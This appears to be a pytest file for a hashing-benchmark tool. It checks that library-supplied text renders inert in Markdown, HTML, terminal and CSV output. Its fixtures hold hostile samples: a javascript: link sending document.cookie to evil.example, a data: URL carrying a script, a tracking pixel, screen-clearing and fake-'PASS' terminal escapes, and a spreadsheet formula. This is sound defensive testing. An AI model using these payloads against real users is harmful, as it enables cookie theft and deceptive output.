"""Library text is data wherever it is shown (ngcc/base/untrusted.py): inert in Markdown,
in HTML and on the terminal; files read without blocking, JSON with a bounded depth.

The hostile text is the issue's: a forged link to ``javascript:``, one to ``data:``,
a tracking image, a script, and terminal escapes that clear the screen, retitle the
window and print a red FAKE PASS.
"""

from __future__ import annotations

import dataclasses
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from _fakerun import make_run
from _testlib import CHANNEL_FD_SOURCE, FORGE_ERROR_STATEMENTS, build_library

import ngcc
from ngcc.base import files as _files
from ngcc.base import untrusted as _untrusted
from ngcc.base.errors import CorruptRecordError, NgccError
from ngcc.evidence import records as _records
from ngcc.evidence.run import load_run
from ngcc.report import export as _export
from ngcc.report import write as _write
from ngcc.report.sections import common as _sections
from ngcc.report.validate import check_links, validate

ESCAPES = "\033[2J\033]0;owned\007\033[31mFAKE PASS"
HOSTILE = ("[the log](javascript:location='//evil.example/?'+document.cookie) "
           "[details](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
           "![](https://evil.example/pixel.png) <script>alert(1)</script> `x` ``y`` "
           + ESCAPES + "\u202e\n- forged line")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


# ------------------------------------------------------------------ the renderers

def test_plain_makes_every_control_visible_and_keeps_one_line():
    text = _untrusted.plain(ESCAPES + "\n\u202e\x85")
    assert text == ("\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mFAKE PASS\\x0a\\u202e\\x85")
    assert _untrusted.plain("Wish512 at 32 B: ok — 1 µs") == "Wish512 at 32 B: ok — 1 µs"


@pytest.mark.parametrize("text", ["a", "a`b", "``x``", "`", "a ``` b", HOSTILE])
def test_markdown_is_one_code_span_holding_the_text(text):
    span = _untrusted.markdown(text)
    match = _untrusted.CODE_SPAN.fullmatch(span)
    assert match is not None, span
    content = match.group(2)
    if content.startswith(" ") and content.endswith(" ") and content.strip():
        content = content[1:-1]
    assert content == _untrusted.plain(text)
    assert "\n" not in span and "\033" not in span


def test_html_escapes_markup_and_both_quotes():
    assert _untrusted.html("<a href='x'>\"&\033") == \
        "&lt;a href=&#x27;x&#x27;&gt;&quot;&amp;\\x1b"


@pytest.mark.parametrize("target, ok", [
    ("summary.md", True), ("hash-22-cpb.png", True), ("#fig-a.png", True),
    ("../records/hash-22/Wish512__hash_32.json", True), ("javascript:alert(1)", False),
    ("data:text/html;base64,AAAA", False), ("//evil.example/x.md", False),
    ("https://evil.example/x.png", False), ("/etc/passwd", False), ("a/../../x", False),
    ("JaVaScRiPt:alert(1)", False), ("", False), ("a b.md", False), ("x.md\"onclick", False)])
def test_a_report_links_only_plain_relative_paths(target, ok):
    assert _untrusted.local_href(target) is ok


def test_the_html_converter_shows_library_text_and_links_nothing_of_it():
    page = "\n".join(["# page", "", "- crash: " + _sections.code(HOSTILE), "",
                      "[live](javascript:alert(1)) [inline](data:text/html,x) "
                      "[up](../../etc/passwd) ![px](https://evil.example/p.png) "
                      "[fine](summary.md)", ""])
    html = _export.html_page(page, {})
    hrefs = re.findall(r"""\b(?:href|src)\s*=\s*["']([^"']*)["']""", html)
    assert hrefs == ["summary.html"]
    assert "<script" not in html and "<img" not in html and "\033" not in html
    assert "javascript:location" in html  # shown as text, inside the code element
    assert "FAKE PASS" in html


# ------------------------------------------------------------------ a run's pages

@pytest.fixture()
def hostile_run(tmp_path: Path) -> Path:
    """The fake run whose failed job's error is the hostile text, with its report."""
    run_dir = make_run(tmp_path / "run")
    state = _records.load_campaign(run_dir)
    jobs = tuple(dataclasses.replace(job, error="Pavelor-1024 at 8192 B failed: " + HOSTILE)
                 if job.status == "crash" else job for job in state.jobs)
    _records.dump_campaign(run_dir, dataclasses.replace(state, jobs=jobs))
    _write.write_report(load_run(run_dir), plots=False, formats=("markdown", "html"))
    return run_dir


def test_library_text_is_inert_on_every_page(hostile_run: Path):
    pages = sorted((hostile_run / "report").glob("*.md"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "FAKE PASS" in text or page.name.startswith("baseline")
        assert not CONTROL.search(text), page.name
        for line in text.splitlines():
            outside = _untrusted.CODE_SPAN.sub("", line)
            assert "<script" not in outside and "](javascript:" not in outside, line
            assert "](data:" not in outside and "![](" not in outside, line
    for page in (hostile_run / "report").glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script" not in text and not CONTROL.search(text)
        for target in re.findall(r"""\bhref\s*=\s*["']([^"']*)["']""", text):
            assert _untrusted.local_href(target), (page.name, target)
    assert validate(hostile_run).ok


@pytest.mark.parametrize("link", ["javascript:alert%281%29", "data:text/html;base64,AAAA",
                                  "https://evil.example/", "//evil.example/x",
                                  "/etc/passwd"])
def test_validate_refuses_a_page_linking_outside_the_run(hostile_run: Path, link: str):
    for suffix, forged in ((".md", f"[x]({link})"), (".html", f'<a href="{link}">x</a>')):
        page = hostile_run / "report" / ("index" + suffix)
        page.write_text(page.read_text(encoding="utf-8") + forged + "\n", encoding="utf-8")
        problems = [str(d) for d in check_links(load_run(hostile_run))]
        assert any(link in p and f"index{suffix}" in p for p in problems), problems


def test_validate_allows_only_png_images_inline(hostile_run: Path):
    page = hostile_run / "report" / "index.html"
    page.write_text(page.read_text(encoding="utf-8")
                    + '<img src="data:text/html;base64,PHNjcmlwdD4=">\n', encoding="utf-8")
    problems = [str(d) for d in check_links(load_run(hostile_run))]
    assert any("inline data other than a PNG image" in p for p in problems), problems


# ------------------------------------------------------------------ the terminal

FORGED_ERROR = CHANNEL_FD_SOURCE + r"""
__attribute__((visibility("default")))
int CryptHash(int d, const unsigned char *msg, unsigned long long bits, unsigned char *digest)
{
    (void)d; (void)msg; (void)bits; (void)digest;
    FORGE
}
""".replace("FORGE", FORGE_ERROR_STATEMENTS)


def _c_string(text: str) -> str:
    return '"' + "".join("\\x%02x" % b for b in text.encode()) + '"'


@pytest.fixture(scope="module")
def forger(tmp_path_factory) -> ngcc.Instance:
    folder = tmp_path_factory.mktemp("forger")
    source = "#define TEXT %s\n%s" % (_c_string(HOSTILE), textwrap.dedent(FORGED_ERROR))
    return ngcc.instance(build_library(folder, "Forger", source))


def test_a_forged_error_text_reaches_the_caller_without_controls(forger):
    with pytest.raises(NgccError) as caught:
        ngcc.hash(forger, b"abc")
    message = str(caught.value)
    assert "FAKE PASS" in message and "\\x1b[2J" in message
    assert not CONTROL.search(message) and "\n" not in message


def test_ngcc_hash_prints_the_forged_text_inert(forger, tmp_path: Path):
    data = tmp_path / "m"
    data.write_bytes(b"abc")
    done = subprocess.run([sys.executable, "-m", "ngcc", "hash", str(forger.library),
                           str(data)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    assert done.stderr.startswith("ngcc: error: ") and done.stderr.count("\n") == 1
    assert "FAKE PASS" in done.stderr and not CONTROL.search(done.stderr)


# ------------------------------------------------------------------ files

def test_a_fifo_is_refused_at_once(tmp_path: Path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        _untrusted.read_regular(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        _files.sha256_file(fifo)


def test_deep_json_is_a_value_error_not_a_recursion_error(tmp_path: Path):
    with pytest.raises(ValueError, match="nested 200000 deep"):
        _untrusted.loads_json(b"[" * 200000)
    assert _untrusted.loads_json('{"a": ["[[[[", {"b": [1]}]}') == {"a": ["[[[[", {"b": [1]}]}
    path = tmp_path / "campaign.json"
    path.write_bytes(b"[" * 200000)
    with pytest.raises(CorruptRecordError, match="nested"):
        _records.load_campaign(tmp_path)


def test_prose_from_a_sidecar_is_escaped_markdown_and_plain_html():
    text = _untrusted.markdown_text(HOSTILE)
    assert _untrusted.markdown_text("portable C99, 64-bit lanes (AVX2)") == \
        "portable C99, 64-bit lanes (AVX2)"  # ordinary descriptions are unchanged
    assert "](" not in text.replace("\\](", "") and "<script" not in text.replace("\\<", "")
    html = _export.html_page("# t\n\n- reference (%s)\n" % text, {})
    assert "<script" not in html and "<a " not in html and "<img" not in html
    assert "javascript:location" in html and "\033" not in html
    page = "# t\n\n- reference (%s)\n" % text
    assert re.findall(r"(?<!\\)\]\(([^)\s]+)\)", page) == []  # validate sees no link


def test_a_csv_cell_is_text_to_a_spreadsheet():
    assert _export._csv_text("=HYPERLINK(\"//evil\")") == "'=HYPERLINK(\"//evil\")"
    assert _export._csv_text("@SUM(A1)\033[2J") == "'@SUM(A1)\\x1b[2J"
    assert _export._csv_text("portable C99") == "portable C99"
